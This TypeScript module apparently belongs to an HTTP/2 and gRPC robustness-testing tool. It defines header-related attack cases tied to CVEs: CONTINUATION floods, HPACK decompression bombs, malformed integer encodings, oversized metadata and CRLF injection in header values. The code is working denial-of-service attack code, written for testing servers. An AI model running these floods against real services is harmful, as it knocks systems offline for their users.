/** Header blocks that are too large, too many, or wrong. */
import type { Attack, Fault } from '../fault.js';
import { H2Connection, onConnections } from '../wire/connection.js';
import {
  data,
  FLAG,
  FRAME,
  frame,
  headers,
  SETTING,
  settings,
  windowUpdate,
} from '../wire/frames.js';
import {
  block,
  callBlock,
  callFields,
  type Field,
  indexed,
  integer,
  kept,
  literal,
  NEWEST,
} from '../wire/hpack.js';
import { CHECK, EMPTY_MESSAGE, GET_LISTS, ONE_CHECK } from './messages.js';

/** Makes calls of Check with more metadata. */
const withMetadata =
  (perSecond: number, more: (attack: Attack) => readonly Field[]) => (attack: Attack) =>
    onConnections(attack, { connections: 2, perSecond }, (connection) => {
      sendBlock(connection, callBlock(CHECK, ...more(attack)));
    });

/** Opens a stream with a block of any size, in frames of 16 KiB. */
function sendBlock(connection: H2Connection, bytes: Buffer): void {
  const stream = connection.nextStream();
  const parts = Math.ceil(bytes.length / 16_384);
  for (let part = 0; part < parts; part++) {
    const payload = bytes.subarray(part * 16_384, (part + 1) * 16_384);
    const flags = part === parts - 1 ? FLAG.endHeaders : 0;
    connection.send(
      frame(part === 0 ? FRAME.headers : FRAME.continuation, { stream, payload, flags }),
    );
  }
  connection.send(data(stream, ONE_CHECK, FLAG.endStream));
}

/** A call, and 12,000 references to the field that its connection has put into the table. */
const PACKED = Buffer.concat([
  block(callFields(GET_LISTS)),
  ...Array.from({ length: 12_000 }, () => indexed(NEWEST)),
]);

export const HEADERS: readonly Fault[] = [
  {
    name: 'continuation-flood',
    report: 'CVE-2024-27983, CERT VU#421644',
    how: '1,000 CONTINUATION frames of 1 KiB a second behind HEADERS that never end',
    play: (attack) => {
      const started = new WeakSet<H2Connection>();
      const part = literal('x-more', 'a'.repeat(1000));
      return onConnections(attack, { connections: 2, perSecond: 1000 }, (connection) => {
        const stream = 1;
        if (!started.has(connection)) {
          connection.send(frame(FRAME.headers, { stream, payload: callBlock(CHECK) }));
        }
        started.add(connection);
        connection.send(frame(FRAME.continuation, { stream, payload: part }));
      });
    },
  },
  {
    name: 'empty-continuation-flood',
    report: 'CVE-2019-9518',
    how: '4,000 empty CONTINUATION frames a second',
    play: (attack) => {
      const started = new WeakSet<H2Connection>();
      return onConnections(attack, { connections: 2, perSecond: 4000 }, (connection) => {
        if (!started.has(connection)) {
          connection.send(frame(FRAME.headers, { stream: 1, payload: callBlock(CHECK) }));
        }
        started.add(connection);
        connection.send(frame(FRAME.continuation, { stream: 1 }));
      });
    },
  },
  {
    name: 'hpack-bomb',
    report: 'CVE-2016-6581, CVE-2016-1544',
    how: '20 blocks of 12 KB a second, each of which unpacks to 48 MB',
    play: (attack) => {
      const started = new WeakSet<H2Connection>();
      return onConnections(attack, { connections: 2, perSecond: 20 }, (connection) => {
        if (!started.has(connection)) {
          connection.open(Buffer.concat([callBlock(GET_LISTS), kept('x-large', 'a'.repeat(4000))]));
        }
        started.add(connection);
        connection.open(PACKED);
      });
    },
  },
  {
    name: 'hpack-bomb-held',
    report: 'CVE-2026-49975',
    how: '100 blocks a second of 12,000 references to a small cookie, behind windows of 0',
    play: (attack) => {
      const started = new WeakSet<H2Connection>();
      const load = { settings: settings([SETTING.initialWindowSize, 0]) };
      return onConnections(attack, { connections: 4, perSecond: 100, ...load }, (connection) => {
        if (!started.has(connection)) {
          connection.open(Buffer.concat([callBlock(GET_LISTS), kept('cookie', 'a')]));
        }
        started.add(connection);
        const stream = connection.open(PACKED);
        connection.send(data(stream, EMPTY_MESSAGE, FLAG.endStream), windowUpdate(stream, 1));
      });
    },
  },
  {
    name: 'hpack-long-integers',
    report: 'CVE-2023-33953',
    how: '500 blocks a second whose lengths are padded with zeros, or end nowhere',
    play: (attack) =>
      onConnections(attack, { connections: 2, perSecond: 500 }, (connection) => {
        const padding = attack.random.pick([3, 1000]);
        const length = integer(200, { bits: 7, flags: 0 }, padding);
        connection.open(
          Buffer.concat([callBlock(CHECK), Buffer.of(0), length, Buffer.alloc(200, 'a')]),
        );
      }),
  },
  {
    name: 'hpack-wrong-index',
    report: 'CVE-2025-59465',
    how: '100 connections a second whose HEADERS cannot be read and are as large as allowed',
    play: (attack) =>
      attack.pace(100, () => {
        const connection = new H2Connection(attack);
        connection.open(Buffer.concat([indexed(4000), Buffer.alloc(16_000, 0xff)]));
      }),
  },
  {
    name: 'headers-without-names',
    report: 'CVE-2019-9516',
    how: '1,000 calls a second with 100 fields whose names, and values, are empty',
    play: withMetadata(1000, () => Array.from({ length: 100 }, () => ['', ''] as const)),
  },
  {
    name: 'headers-too-large',
    report: 'nodejs/node #35233',
    how: '50 calls a second with 90,000 bytes of metadata',
    play: withMetadata(50, () => [['x-large', 'A'.repeat(90_000)]]),
  },
  {
    name: 'too-much-metadata',
    report: 'RFC 9113, section 10.5.1',
    how: '100 calls a second with 60 KB of metadata in 110 to 1,000 fields',
    play: withMetadata(100, (attack) => {
      const count = attack.random.pick([110, 130, 1000]);
      const value = 'v'.repeat(Math.floor(60_000 / count));
      return Array.from({ length: count }, (_, index) => [`x-${index}`, value] as const);
    }),
  },
  {
    name: 'wrong-te-and-scheme',
    report: 'CVE-2023-1428',
    how: '500 calls a second with a te and scheme that there is not, and 8 KiB behind them',
    play: withMetadata(500, () => [
      ['te', 'x'],
      [':scheme', 'x'],
      ['grpclb_client_stats', 'x'],
      ['x-more', 'a'.repeat(8192)],
    ]),
  },
  {
    name: 'wrong-base64',
    report: 'CVE-2023-32732',
    how: '500 calls a second whose -bin metadata is no base64',
    play: withMetadata(500, () => [
      ['x-trace-bin', '%%%not base64%%%'],
      ['grpc-trace-bin', '='],
      ['traceparent', '00-zz-zz-zz'],
    ]),
  },
  {
    name: 'wrong-characters',
    report: 'RFC 9113, section 8.2.1',
    how: '500 calls a second with names in upper case, or line ends in names and values',
    play: withMetadata(500, (attack) => [
      attack.random.pick([
        ['X-Upper', 'a'],
        ['x-value', 'a\r\nx: b'],
        ['x\nname', 'a'],
        ['connection', 'close'],
        ['transfer-encoding', 'chunked'],
        [':unknown', 'a'],
      ] as const),
    ]),
  },
  {
    name: 'headers-twice',
    report: 'grpc/grpc #14175',
    how: '500 calls a second with HEADERS, the same HEADERS again, then DATA',
    play: (attack) =>
      onConnections(attack, { connections: 2, perSecond: 500 }, (connection) => {
        const stream = connection.open(callBlock(CHECK));
        connection.send(headers(stream, callBlock(CHECK)), data(stream, ONE_CHECK, FLAG.endStream));
      }),
  },
  {
    name: 'trailers-of-a-request',
    report: 'grpc/grpc #14175',
    how: '500 calls a second that end with trailers, or trailers with pseudo-fields',
    play: (attack) =>
      onConnections(attack, { connections: 2, perSecond: 500 }, (connection) => {
        const stream = connection.open(callBlock(CHECK));
        const trailers = attack.random.chance(0.5)
          ? [['x-end', '1'] as const]
          : [[':path', '/'] as const];
        connection.send(data(stream, ONE_CHECK), headers(stream, block(trailers), FLAG.endStream));
      }),
  },
];
